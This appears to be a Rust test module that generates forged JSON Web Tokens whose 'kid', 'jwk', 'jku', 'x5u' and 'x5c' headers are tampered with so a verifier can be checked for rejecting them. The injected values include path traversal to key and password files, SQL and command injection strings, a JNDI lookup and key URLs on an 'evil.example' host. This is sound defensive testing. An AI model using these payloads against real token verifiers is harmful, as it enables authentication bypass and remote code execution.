//! Tokens that say themselves which key they are to be verified with.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::{Forgery, Original, stranger, with};

pub(super) fn all(original: &Original) -> Vec<Forgery> {
    let mut all = names(original);
    all.extend(brought_along(original));
    all
}

/// Names of no key of ours.
fn names(original: &Original) -> Vec<Forgery> {
    let kid = &original.kid;
    let mut all = Vec::new();
    for name in [
        json!(""),
        json!("unknown"),
        json!("../../../../dev/null"),
        json!("../certs/private.pem"),
        json!("/dev/null"),
        json!("C:\\Windows\\win.ini"),
        json!("file:///etc/passwd"),
        json!("https://evil.example/key"),
        json!("' OR '1'='1"),
        json!("| sleep 10"),
        json!("${jndi:ldap://evil.example}"),
        json!(format!("{kid}\u{0}")),
        json!(format!(" {kid}")),
        json!(format!("{kid}/../{kid}")),
        json!(&kid[..42]),
        json!(swapped_case(kid)),
        json!("k".repeat(4_000)),
        json!(null),
        json!([kid]),
        json!({ "kid": kid }),
        json!(0),
    ] {
        let what = format!("kid {name:.60}");
        all.push(Forgery::new(what, original.signed(&with(&original.header, "kid", name), &original.claims)));
    }
    all
}

/// Keys, and where to get them. Signed by the stranger whose key it is under the stranger's name and ours, as an attacker
/// would; and by us, so that the mere presence is seen to be enough.
fn brought_along(original: &Original) -> Vec<Forgery> {
    let theirs = stranger().jwk("theirs");
    let certificate = STANDARD.encode(stranger().public_der());
    let fields: [(&str, Value); 9] = [
        ("jwk", stranger().jwk(&original.kid)),
        ("jwk", theirs),
        ("jwk", original.ours.jwk(&original.kid)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/chain.pem")),
        ("x5c", json!([certificate])),
        ("x5t", json!("AQAB")),
        ("x5t#S256", json!("AQAB")),
    ];
    let mut all = Vec::new();
    for (name, value) in fields {
        let ours = with(&original.header, name, value);
        let theirs = with(&ours, "kid", json!("theirs"));
        let claims = &original.claims;
        all.push(Forgery::new(format!("{name}, signed by us"), original.signed(&ours, claims)));
        all.push(Forgery::new(format!("{name}, signed by a stranger"), original.foreign(&ours, claims)));
        all.push(Forgery::new(
            format!("{name}, signed by a stranger under another kid"),
            original.foreign(&theirs, claims),
        ));
    }
    all
}

fn swapped_case(text: &str) -> String {
    let swap = |c: char| if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    text.chars().map(swap).collect()
}
